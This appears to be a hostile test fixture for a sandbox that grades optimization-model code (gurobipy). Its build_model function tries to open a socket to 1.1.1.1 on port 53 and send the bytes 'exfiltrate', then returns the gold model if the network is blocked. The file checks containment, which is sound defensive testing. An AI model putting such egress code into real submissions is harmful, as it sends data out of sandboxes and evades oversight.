"""Hostile: network egress to a public resolver (1.1.1.1:53) before building the gold model."""
# ruff: noqa: F401, F821 - gold_build_model() is prepended by the test; imports as candidates write them

import socket

import gurobipy as gp


def build_model():
    try:
        with socket.create_connection(("1.1.1.1", 53), timeout=2) as conn:
            conn.sendall(b"exfiltrate")
        raise RuntimeError("ESCAPED: connected to 1.1.1.1:53")
    except OSError as exc:
        print(f"network blocked: {exc!r}")
    return gold_build_model()
